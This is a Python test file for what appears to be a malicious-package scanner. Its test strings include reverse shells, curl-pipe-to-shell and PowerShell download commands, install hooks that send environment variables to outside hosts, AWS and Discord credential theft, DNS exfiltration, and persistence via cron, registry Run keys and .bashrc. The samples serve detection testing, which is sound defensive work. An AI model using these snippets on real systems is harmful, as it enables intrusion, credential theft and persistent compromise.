"""Tests for the `ast` engine. Every sample is an inert string: parsed, never run."""

from __future__ import annotations

import time

import pytest

from pycustoms.analyzers.code.ast_rules import RULES, analyze_python
from pycustoms.analyzers.code.context import ExecContext
from pycustoms.types import Capability, Severity

E = ExecContext
DECLARED = {rule.id for rule in RULES}


def scan(
    source: str, context: ExecContext = E.MODULE, path: str = "pkg/mod.py"
) -> dict[str, Severity]:
    """Rule id -> worst severity found in *source*."""
    report = analyze_python(path, source, context)
    assert report is not None
    out: dict[str, Severity] = {}
    for finding in report.findings:
        assert finding.rule in DECLARED, finding.rule
        assert finding.file == path
        assert finding.line is not None
        out[finding.rule] = max(out.get(finding.rule, Severity.INFO), finding.severity)
    return out


def caps(source: str, context: ExecContext = E.MODULE) -> frozenset[Capability]:
    report = analyze_python("m.py", source, context)
    assert report is not None
    return report.capabilities


# --------------------------------------------------------------------- dynamic code
@pytest.mark.parametrize(
    "source",
    [
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        "from base64 import b64decode as d\nx = d(b'aGVsbG8gd29ybGQ=')\ny = x.decode()\nexec(y)\n",
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode(BLOB)))\n"
        "BLOB = 'eJzLSM3JyQcABiwCFQ=='\n",
        "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n",
        "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00\\x00\\x00\\x00\\x00\\x00'))\n",
        "code = bytes.fromhex('7072696e74283129')\nexec(compile(code, '<x>', 'exec'))\n",
        "import binascii as b\npayload = b.unhexlify('7072696e74283129')\nexec(payload)\n",
        "import base64\n__builtins__.exec(base64.b64decode('cHJpbnQoMSk='))\n",
        "import base64 as q\ngetattr(__builtins__, 'ex' + 'ec')(q.b64decode('cHJpbnQoMSk='))\n",
        "import lzma\ndef go():\n    exec(lzma.decompress(b'\\xfd7zXZ\\x00\\x00\\x04'))\ngo()\n",
    ],
)
def test_exec_of_decoded_payload_is_critical(source: str) -> None:
    assert scan(source)["code/exec-decoded-payload"] is Severity.CRITICAL


def test_decoded_exec_is_not_weakened_in_tests() -> None:
    source = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    assert scan(source, E.TEST, "tests/test_x.py")["code/exec-decoded-payload"] is Severity.CRITICAL


def test_code_carried_encoded_is_critical_even_in_an_uncalled_function() -> None:
    """Before: high (warn). A method that execs its own base64 is a payload whoever calls it."""
    source = "import base64\ndef f():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n"
    assert scan(source)["code/exec-decoded-payload"] is Severity.CRITICAL


def test_decoded_exec_of_data_from_outside_in_uncalled_function_loses_one_level() -> None:
    source = (
        "import base64, urllib.request\n"
        "def f(url):\n"
        "    exec(base64.b64decode(urllib.request.urlopen(url).read()))\n"
    )
    assert scan(source)["code/exec-decoded-payload"] is Severity.HIGH


def test_deserialiser_decoding_a_parameter_stays_medium() -> None:
    source = (
        "import codecs, marshal, types\n"
        "def func_load(code, globs):\n"
        "    raw = codecs.decode(code.encode('raw_unicode_escape'), 'base64')\n"
        "    return types.FunctionType(marshal.loads(raw), globs)\n"
    )
    assert scan(source)["code/exec-decoded-payload"] is Severity.MEDIUM


def test_exec_of_downloaded_code() -> None:
    source = (
        "import urllib.request\n"
        "resp = urllib.request.urlopen('https://example.invalid/stage2')\n"
        "exec(resp.read().decode())\n"
    )
    assert scan(source)["code/exec-remote-code"] is Severity.CRITICAL
    source = "import requests\nexec(requests.get('https://example.invalid/x').text)\n"
    assert scan(source, E.INSTALL, "setup.py")["code/exec-remote-code"] is Severity.CRITICAL


def test_exec_of_non_python_file() -> None:
    source = "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'logo.png')).read())\n"
    assert scan(source, E.INSTALL, "setup.py")["code/exec-file-content"] >= Severity.HIGH


def test_exec_of_version_file_is_quiet() -> None:
    source = "about = {}\nexec(open('pkg/__version__.py').read(), about)\n"
    assert "code/exec-file-content" not in scan(source, E.INSTALL, "setup.py")


def test_exec_of_char_codes() -> None:
    source = "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 41]))\n"
    assert scan(source)["code/exec-obfuscated-string"] is Severity.CRITICAL
    source = "s = ')1(tnirp'\nexec(s[::-1])\n"
    assert scan(source)["code/exec-obfuscated-string"] is Severity.CRITICAL


@pytest.mark.parametrize(
    "source",
    [
        # code generation from literals (attrs/namedtuple style)
        "def make(name):\n    src = 'def ' + name + '(self): return 1'\n    exec(src, {})\n",
        "exprs = ['x + y', 'x * y']\n"
        "fns = [eval('lambda x, y: %s' % e) for e in reversed(exprs)]\n",
        "import re\npat = re.compile('a+')\n",
        "import builtins\nexec_ = getattr(builtins, 'exec')\n",
        "import importlib\nmod = importlib.import_module('pkg.plugins.' + 'json')\n",
        "def load(name):\n    return __import__(name)\n",
        "x = eval('1 + 1')\n",
    ],
)
def test_benign_dynamic_code_stays_quiet(source: str) -> None:
    found = scan(source)
    assert all(sev <= Severity.LOW for sev in found.values()), found


def test_exec_literal_is_analysed_inside() -> None:
    source = "exec(\"import os\\nos.system('curl -s http://example.invalid/a.sh | sh')\")\n"
    assert scan(source, E.INSTALL, "setup.py")["code/download-command"] is Severity.CRITICAL


# --------------------------------------------------------------------- obfuscation
def test_obfuscated_import_and_attribute() -> None:
    found = scan("getattr(__import__('o' + 's'), 'sy' + 'stem')('id')\n")
    assert found["code/obfuscated-import"] is Severity.HIGH
    assert found["code/obfuscated-attribute"] is Severity.HIGH
    found = scan("m = 'ssecorpbus'[::-1]\nmod = __import__(m)\n")
    assert found["code/obfuscated-import"] is Severity.HIGH


def test_obfuscated_call_resolves_to_process_capability() -> None:
    assert Capability.PROCESS in caps("getattr(__import__('os'), 'sys' + 'tem')('id')\n")


def test_unicode_lookalike_identifier() -> None:
    assert scan("ｅｘｅｃ('print(1)')\n")["code/unicode-identifier"] is Severity.HIGH
    # Mixed-script identifiers are only walked next to a capability (the prefilter).
    mixed = "import subprocess\npаth = 1\nsubprocess.run(pаth)\n"
    assert scan(mixed)["code/unicode-identifier"] >= Severity.LOW
    assert scan("名前 = 1\nprint(名前)\n") == {}


def test_chr_chain_is_low() -> None:
    assert scan("s = chr(111) + chr(115)\n")["code/char-code-string"] is Severity.LOW


# --------------------------------------------------------------------- install time
SETUP_EXFIL = """
from setuptools import setup
from setuptools.command.install import install
import os, json, urllib.request

class PostInstall(install):
    def run(self):
        install.run(self)
        body = json.dumps(dict(os.environ)).encode()
        req = urllib.request.Request("https://collect.example.invalid/e", data=body)
        urllib.request.urlopen(req)

setup(name="x", version="1.0", cmdclass={"install": PostInstall})
"""


def test_cmdclass_hook_exfiltrating_environment() -> None:
    found = scan(SETUP_EXFIL, E.INSTALL, "setup.py")
    assert found["code/exfiltration"] is Severity.CRITICAL
    assert found["code/install-time-network"] is Severity.HIGH
    report = analyze_python("setup.py", SETUP_EXFIL, E.INSTALL)
    assert report is not None
    assert Capability.INSTALL_TIME in report.capabilities


@pytest.mark.parametrize(
    "source",
    [
        # dependency-confusion probe over HTTP
        "import socket, getpass, requests\n"
        "requests.get('https://probe.example.invalid/', params={'h': socket.gethostname(),"
        " 'u': getpass.getuser()})\n",
        # the same in a helper called from the top level
        "import os, platform, urllib.request, urllib.parse\n"
        "def beacon():\n"
        "    q = urllib.parse.urlencode({'n': platform.node(), 'd': os.getcwd()})\n"
        "    urllib.request.urlopen('http://probe.example.invalid/?' + q)\n"
        "beacon()\n",
        # through a process
        "import os\nos.system('curl http://probe.example.invalid/' + os.getenv('USER'))\n",
        # over http.client
        "import http.client, socket\nc = http.client.HTTPSConnection('probe.example.invalid')\n"
        "c.request('POST', '/', body=socket.gethostname())\n",
    ],
)
def test_install_time_host_probe_is_critical(source: str) -> None:
    found = scan(source, E.INSTALL, "setup.py")
    assert found["code/host-info-exfiltration"] is Severity.CRITICAL


def test_dns_probe_with_built_label() -> None:
    source = (
        "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.x.dns.example.com')\n"
    )
    found = scan(source, E.INSTALL, "setup.py")
    assert found["code/dns-exfiltration"] is Severity.CRITICAL
    assert found["code/host-info-exfiltration"] is Severity.CRITICAL


def test_benign_setup_running_compiler_and_git() -> None:
    source = (
        "import subprocess, os\nfrom setuptools import setup, Extension\n"
        "ver = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n"
        "if os.environ.get('CC'):\n    subprocess.check_call([os.environ['CC'], '--version'])\n"
        "setup(name='x', version=ver, long_description=open('README.md').read())\n"
    )
    found = scan(source, E.INSTALL, "setup.py")
    assert all(sev <= Severity.LOW for sev in found.values()), found


def test_download_command_severity_depends_on_context() -> None:
    source = (
        "import subprocess\nsubprocess.run('curl -fsSL https://x.invalid/i.sh | sh', shell=True)\n"
    )
    assert scan(source, E.INSTALL, "setup.py")["code/download-command"] is Severity.CRITICAL
    in_func = (
        "import subprocess\ndef fetch():\n"
        "    subprocess.run(['wget', 'https://x.invalid/t.tgz', '-O', 't'])\n"
    )
    assert scan(in_func)["code/download-command"] is Severity.MEDIUM
    # On import: hidden/encoded PowerShell or a download piped into a shell is a second
    # stage (critical); fetching a file with wget is only high.
    ps = "import os\nos.system('powershell -w hidden -enc SQBFAFgA')\n"
    assert scan(ps, E.IMPORT, "pkg/__init__.py")["code/download-command"] is Severity.CRITICAL
    piped = "import os\nos.system('curl -s https://x.invalid/i | bash')\n"
    assert scan(piped, E.IMPORT, "pkg/__init__.py")["code/download-command"] is Severity.CRITICAL
    fetch = "import subprocess\nsubprocess.run(['wget', 'https://x.invalid/t.tgz', '-O', 't'])\n"
    assert scan(fetch, E.IMPORT, "pkg/__init__.py")["code/download-command"] is Severity.HIGH


def test_download_then_execute() -> None:
    source = (
        "import urllib.request, os, subprocess\n"
        "data = urllib.request.urlopen('http://203.0.113.9/bin').read()\n"
        "with open('/tmp/x', 'wb') as f:\n    f.write(data)\n"
        "os.chmod('/tmp/x', 0o755)\nsubprocess.Popen(['/tmp/x'])\n"
    )
    found = scan(source, E.INSTALL, "setup.py")
    assert found["code/download-execute"] is Severity.CRITICAL
    assert found["code/suspicious-endpoint"] is Severity.CRITICAL


# --------------------------------------------------------------------- library context
def test_same_network_call_in_library_function_vs_setup() -> None:
    lib = "import requests\ndef fetch(url):\n    return requests.get(url, timeout=5).json()\n"
    assert scan(lib) == {}
    assert Capability.NETWORK in caps(lib)
    setup = "import requests\nrequests.get('https://example.invalid/ping')\n"
    assert scan(setup, E.INSTALL, "setup.py")["code/install-time-network"] is Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        "import os, requests\ndef call(url):\n"
        "    return requests.post(url, headers={'Authorization': os.environ['API_TOKEN']})\n",
        "import os, subprocess\ndef run(cmd):\n    env = os.environ.copy()\n"
        "    env['X'] = '1'\n    return subprocess.run(cmd, env=env, check=True)\n",
        "import os\nHOME = os.path.expanduser('~')\nDEBUG = os.getenv('MYLIB_DEBUG')\n",
        "import socket\ndef local_ip():\n    return socket.gethostbyname(socket.gethostname())\n",
        "import time, requests\ndef poll(u):\n    while True:\n        time.sleep(5)\n"
        "        requests.get(u)\n",
        "import platform, subprocess\nif platform.system() == 'Windows':\n"
        "    subprocess.call(['cmd', '/c', 'ver'])\n",
        "import os\ndef cfg():\n"
        "    return open(os.path.expanduser('~/.config/mytool.toml')).read()\n",
        "import os, json\ndef dump_env(path):\n    json.dump(dict(os.environ), open(path, 'w'))\n",
    ],
)
def test_benign_library_code_stays_quiet(source: str) -> None:
    found = scan(source)
    assert all(sev <= Severity.LOW for sev in found.values()), found


def test_capabilities_are_reported_without_findings() -> None:
    source = (
        "import os, subprocess, socket\n"
        "def f():\n    subprocess.run(['ls'])\n    os.getenv('HOME')\n"
        "    socket.create_connection(('example.invalid', 80))\n    eval('1')\n"
    )
    assert caps(source) >= {
        Capability.PROCESS,
        Capability.ENV_READ,
        Capability.NETWORK,
        Capability.DYNAMIC_CODE,
    }


def test_environment_read_capability_without_parse() -> None:
    assert Capability.ENV_READ in caps("x = 1\n# reads environ\n")


# --------------------------------------------------------------------- stealers
def test_credential_exfiltration() -> None:
    source = (
        "import os, requests\n"
        "p = os.path.expanduser('~/.aws/credentials')\n"
        "requests.post('https://drop.example.invalid', data=open(p).read())\n"
    )
    found = scan(source, E.IMPORT, "pkg/__init__.py")
    assert found["code/exfiltration"] is Severity.CRITICAL
    assert found["code/credential-file-access"] is Severity.MEDIUM


def test_credential_read_in_tool_function_is_low() -> None:
    source = (
        "import os\ndef pypirc():\n"
        "    return open(os.path.join(os.path.expanduser('~'), '.pypirc')).read()\n"
    )
    assert scan(source)["code/credential-file-access"] is Severity.LOW


def test_exfiltration_in_uncalled_function_is_high() -> None:
    source = (
        "import os, requests\ndef leak():\n"
        "    requests.post('https://x.invalid', json=dict(os.environ))\n"
    )
    assert scan(source)["code/exfiltration"] is Severity.HIGH
    assert scan(source, E.TEST, "tests/test_a.py")["code/exfiltration"] is Severity.HIGH


def test_browser_and_discord_stores_to_webhook() -> None:
    source = (
        "import os, requests\n"
        "def grab():\n"
        "    base = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n"
        "    for name in os.listdir(base):\n"
        "        data = open(os.path.join(base, name), errors='ignore').read()\n"
        "        requests.post('https://discord.com/api/webhooks/1/x', json={'c': data})\n"
        "grab()\n"
    )
    found = scan(source)
    assert found["code/stealer-target-access"] >= Severity.HIGH
    assert found["code/exfiltration"] is Severity.CRITICAL
    assert found["code/suspicious-endpoint"] is Severity.CRITICAL  # runs on import


def test_metadata_endpoint() -> None:
    source = "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/iam/')\n"
    assert scan(source, E.INSTALL, "setup.py")["code/cloud-metadata-access"] is Severity.HIGH


def test_clipboard_and_keylogger() -> None:
    source = "import pyperclip\nclip = pyperclip.paste()\n"
    assert scan(source, E.IMPORT, "pkg/__init__.py")["code/surveillance"] is Severity.MEDIUM


# --------------------------------------------------------------------- remote control, persistence
@pytest.mark.parametrize(
    "source",
    [
        "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\n"
        "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('/bin/bash')\n",
        "import socket, subprocess\nc = socket.create_connection(('203.0.113.5', 9001))\n"
        "subprocess.Popen(['/bin/sh', '-i'], stdin=c.fileno(), stdout=c.fileno(), "
        "stderr=c.fileno())\n",
        "import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n",
    ],
)
def test_reverse_shell(source: str) -> None:
    assert scan(source)["code/reverse-shell"] is Severity.CRITICAL


def test_daemon_dup2_to_devnull_is_quiet() -> None:
    source = (
        "import os\ndef daemonize():\n    fd = os.open(os.devnull, os.O_RDWR)\n    os.dup2(fd, 0)\n"
    )
    assert "code/reverse-shell" not in scan(source)


@pytest.mark.parametrize(
    "source",
    [
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
        "    f.write('python -m x &\\n')\n",
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
        "'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, winreg.KEY_SET_VALUE)\n",
        "import subprocess\n"
        "subprocess.run('(crontab -l; echo \"@reboot /tmp/x\") | crontab -', shell=True)\n",
        "import os\nos.system('schtasks /create /sc onlogon /tn upd /tr C:\\\\x.exe')\n",
    ],
)
def test_persistence(source: str) -> None:
    assert scan(source, E.INSTALL, "setup.py")["code/persistence"] >= Severity.HIGH


def test_shell_completion_installer_is_not_blocking() -> None:
    source = (
        "import os\ndef install_completion(line):\n"
        "    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n        f.write(line)\n"
    )
    assert scan(source)["code/persistence"] is Severity.MEDIUM


# --------------------------------------------------------------------- evasion
def test_environment_gated_payload() -> None:
    source = (
        "import os, requests\n"
        "if os.environ.get('GITHUB_ACTIONS'):\n"
        "    requests.post('https://x.invalid', data=os.environ.get('GITHUB_TOKEN'))\n"
    )
    assert scan(source, E.INSTALL, "setup.py")["code/environment-gated-payload"] is Severity.HIGH
    early_exit = (
        "import os, sys, urllib.request\n"
        "def main():\n"
        "    if 'CI' not in os.environ:\n        return\n"
        "    urllib.request.urlopen('https://x.invalid/p')\n"
        "main()\n"
    )
    assert scan(early_exit)["code/environment-gated-payload"] is Severity.HIGH


def test_sleep_before_payload() -> None:
    source = "import time, os\ntime.sleep(600)\nos.system('curl -o /tmp/a http://x.invalid/a')\n"
    assert scan(source, E.INSTALL, "setup.py")["code/sleep-before-payload"] is Severity.HIGH


def test_main_block_does_not_run_on_import() -> None:
    source = (
        "import os, requests\nif __name__ == '__main__':\n"
        "    requests.post('https://x.invalid', json=dict(os.environ))\n"
    )
    assert scan(source)["code/exfiltration"] is Severity.HIGH
    assert scan(source, E.INSTALL, "setup.py")["code/exfiltration"] is Severity.CRITICAL


# --------------------------------------------------------------------- robustness
@pytest.mark.parametrize(
    "source", ["print 'python 2'\n", "def (:\n", "x = '\\x00" + "\n", "a = (" * 300 + ")" * 300]
)
def test_unparsable_sources_return_none(source: str) -> None:
    assert analyze_python("m.py", "import os\n" + source + "\nos.system('x')\n", E.MODULE) is None


def test_deep_expression_is_reported_not_raised() -> None:
    source = "import os\nx = " + " + ".join(["chr(65)"] * 3000) + "\n"
    report = analyze_python("m.py", source, E.MODULE)
    assert report is None or isinstance(report.findings, tuple)


def test_snippet_is_stripped_and_truncated() -> None:
    source = "import base64\n    \nexec(base64.b64decode('" + "A" * 400 + "'))\n"
    report = analyze_python("m.py", source, E.MODULE)
    assert report is not None
    finding = next(f for f in report.findings if f.rule == "code/exec-decoded-payload")
    assert finding.line == 3
    assert finding.snippet is not None
    assert finding.snippet.startswith("exec(")
    assert len(finding.snippet) <= 200


def test_file_without_triggers_is_cheap_and_empty() -> None:
    source = "def add(a, b):\n    return a + b\n" * 2000
    start = time.perf_counter()
    report = analyze_python("m.py", source, E.MODULE)
    assert report is not None
    assert report.findings == ()
    assert report.capabilities == frozenset()
    assert time.perf_counter() - start < 0.05


def test_rules_are_declared_once_with_code_prefix() -> None:
    ids = [rule.id for rule in RULES]
    assert len(ids) == len(set(ids))
    assert all(i.startswith("code/") for i in ids)


# --- OS/hostname gates, socket addresses, __import__ of a dotted name -------------------


@pytest.mark.parametrize(
    "source",
    [
        'import os, subprocess\nif os.name == "nt":\n'
        '    subprocess.call("powershell iwr http://203.0.113.9/a | iex")\n',
        'import sys, socket\nif sys.platform.startswith("linux"):\n'
        '    socket.gethostbyname(socket.gethostname() + ".x.collector.invalid")\n',
        'import socket, os\nh = socket.gethostname()\nif h.startswith("ci-"):\n'
        '    os.system("curl -s http://203.0.113.9/a | sh")\n',
    ],
)
def test_os_or_hostname_check_gating_a_threat_is_flagged(source: str) -> None:
    assert "code/environment-gated-payload" in scan(source)


@pytest.mark.parametrize(
    "source",
    [
        'import os, sys, subprocess\nif sys.platform == "win32":\n'
        '    subprocess.call(["cmd", "/c", "build.bat"])\n',
        'import os, urllib.request\nif os.name == "posix":\n'
        '    urllib.request.urlopen("https://example.invalid/version.json")\n',
        "import platform, subprocess\n"
        "def install(url):\n"
        '    if platform.system() == "Linux":\n'
        '        subprocess.run(["curl", "-fsSL", url, "-o", "/tmp/x"])\n',
    ],
)
def test_os_check_alone_or_around_ordinary_code_is_quiet(source: str) -> None:
    assert "code/environment-gated-payload" not in scan(source)


def test_raw_ip_socket_address_is_suspicious_but_resolver_idiom_is_not() -> None:
    sent = "import socket\ns = socket.socket()\ns.sendto(b'x', ('203.0.113.5', 53))\n"
    init = "pkg/__init__.py"  # import-time code is always walked
    assert "code/suspicious-endpoint" in scan(sent, E.IMPORT, init)
    idiom = "import socket\ns = socket.socket()\ns.connect(('8.8.8.8', 80))\n"
    assert "code/suspicious-endpoint" not in scan(idiom, E.IMPORT, init)


def test_host_details_to_a_raw_ip_at_import_are_critical() -> None:
    source = (
        "import socket\ns = socket.socket()\n"
        "s.sendto(socket.gethostname().encode(), ('203.0.113.5', 9999))\n"
    )
    found = scan(source, E.IMPORT, "pkg/__init__.py")
    assert found["code/host-info-exfiltration"] is Severity.CRITICAL


def test_dunder_import_of_dotted_name_returns_the_package() -> None:
    source = 'exec(__import__("urllib.request").request.urlopen("http://203.0.113.7/").read())\n'
    assert "code/exec-remote-code" in scan(source)


def test_dns_label_fstring_with_inner_constants() -> None:
    source = (
        "import socket, base64\n"
        "d = base64.b32encode(socket.gethostname().encode())\n"
        "socket.gethostbyname(f\"{d.decode().rstrip('=')}.x.collector.invalid\")\n"
    )
    assert "code/dns-exfiltration" in scan(source)


# ------------------------------------------------- one environment value, by destination
def test_a_ci_token_sent_to_a_raw_ip_on_import_is_critical() -> None:
    source = (
        "import os, requests\n"
        "requests.post('https://198.51.100.44/t', data={'t': os.getenv('GITHUB_TOKEN')})\n"
    )
    assert scan(source, E.IMPORT, "pkg/__init__.py")["code/host-info-exfiltration"] is (
        Severity.CRITICAL
    )


def test_an_api_key_sent_to_the_vendors_own_api_is_not_exfiltration() -> None:
    source = (
        "import os, requests\n"
        "requests.get('https://api.vendor.example/v1/ping',\n"
        "             headers={'Authorization': os.environ['VENDOR_API_KEY']})\n"
    )
    found = scan(source, E.IMPORT, "pkg/__init__.py")
    assert found.get("code/host-info-exfiltration", Severity.INFO) <= Severity.LOW
    assert "code/exfiltration" not in found


@pytest.mark.parametrize(
    "send",
    [
        "c = http.client.HTTPConnection('198.51.100.17')\n"
        "c.request('POST', '/x', str(os.environ.get('GITHUB_TOKEN')))\n",
        "s = socket.create_connection(('198.51.100.17', 9001))\n"
        "s.sendall(os.environ.get('GITHUB_TOKEN', '').encode())\n",
    ],
    ids=["http.client", "socket"],
)
def test_a_token_sent_over_a_connection_to_a_raw_ip_is_critical(send: str) -> None:
    source = "import http.client, os, socket\n" + send
    found = scan(source, E.IMPORT, "pkg/__init__.py")
    assert found["code/host-info-exfiltration"] is Severity.CRITICAL
    assert found["code/suspicious-endpoint"] >= Severity.HIGH


def test_an_http_connection_to_a_named_host_is_not_suspicious() -> None:
    source = (
        "import http.client, os\n"
        "c = http.client.HTTPSConnection('api.vendor.example')\n"
        "c.request('GET', '/v1/ping', headers={'Authorization': os.environ['VENDOR_KEY']})\n"
    )
    found = scan(source, E.IMPORT, "pkg/__init__.py")
    assert "code/suspicious-endpoint" not in found
    assert found.get("code/host-info-exfiltration", Severity.INFO) <= Severity.LOW


def test_a_binary_dropped_from_a_raw_ip_on_import_is_critical() -> None:
    source = (
        "import os, subprocess, tempfile, urllib.request\n"
        "path = os.path.join(tempfile.gettempdir(), 'svc.exe')\n"
        "urllib.request.urlretrieve('http://198.51.100.80/payload.exe', path)\n"
        "subprocess.Popen([path])\n"
    )
    assert scan(source, E.IMPORT, "pkg/__init__.py")["code/download-execute"] is (Severity.CRITICAL)
    named = source.replace("198.51.100.80", "downloads.vendor.example")
    # A Windows program fetched by URL is a stage two wherever it comes from...
    assert scan(named, E.IMPORT, "pkg/__init__.py")["code/download-execute"] is Severity.CRITICAL
    # ...a named host's other files are a vendor's tool: high until more is known.
    tool = named.replace("payload.exe", "tool-linux-x64")
    assert scan(tool, E.IMPORT, "pkg/__init__.py")["code/download-execute"] is Severity.HIGH


def test_who_the_user_is_spelled_into_a_dns_name_on_import_is_critical() -> None:
    source = (
        "import binascii, os, socket\n"
        "label = binascii.hexlify(os.getlogin().encode()).decode()\n"
        "socket.gethostbyname(label + '.x.collector.example')\n"
    )
    assert scan(source, E.IMPORT, "pkg/__init__.py")["code/dns-exfiltration"] is (Severity.CRITICAL)


class _Runs:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os  # noqa: PLC0415 - only named in the pickle, never called

        return (os.system, ("id",))


@pytest.mark.parametrize("protocol", range(6))
def test_an_embedded_pickle_that_calls_a_function_is_exec(protocol: int) -> None:
    import base64  # noqa: PLC0415
    import pickle  # noqa: PLC0415

    blob = base64.b64encode(pickle.dumps(_Runs(), protocol=protocol)).decode()
    source = f"import base64, pickle\npickle.loads(base64.b64decode({blob!r}))\n"
    assert scan(source, E.IMPORT, "pkg/__init__.py")["code/exec-decoded-payload"] is (
        Severity.CRITICAL
    )
    data = base64.b64encode(pickle.dumps({"os": "system"}, protocol=protocol)).decode()
    plain = f"import base64, pickle\nTABLE = pickle.loads(base64.b64decode({data!r}))\n"
    assert "code/exec-decoded-payload" not in scan(plain, E.IMPORT, "pkg/__init__.py")
    cache = "import pickle\n\ndef load(raw):\n    return pickle.loads(raw)\n"
    assert scan(cache) == {}


# --------------------------------------------------------------------- helper summaries
_TOOL_RUNNER = """
import os, subprocess
from urllib.request import urlopen

def latest_version():
    with urlopen("https://example.org/latest") as response:
        return response.read().decode()

def locate_tool(flavour="11"):
    home = os.path.join(os.path.expanduser("~"), ".tools", flavour)
    return os.path.join(home, "bin", "tool")

def prepare(version):
    tool = locate_tool()
    subprocess.Popen([tool, "--version"])
    return tool, version

def main():
    prepare(latest_version())
"""


def test_a_helpers_own_parameter_is_not_the_callers() -> None:
    """`locate_tool()` returns a path built from *its* first parameter; that is not
    `prepare`'s first parameter (the fetched version), so the command is not network data."""
    assert "code/reverse-shell" not in scan(_TOOL_RUNNER)


def test_a_fetched_value_that_reaches_a_helpers_command_still_counts() -> None:
    source = _TOOL_RUNNER.replace('[tool, "--version"]', "version, shell=True")
    assert "code/reverse-shell" in scan(source)
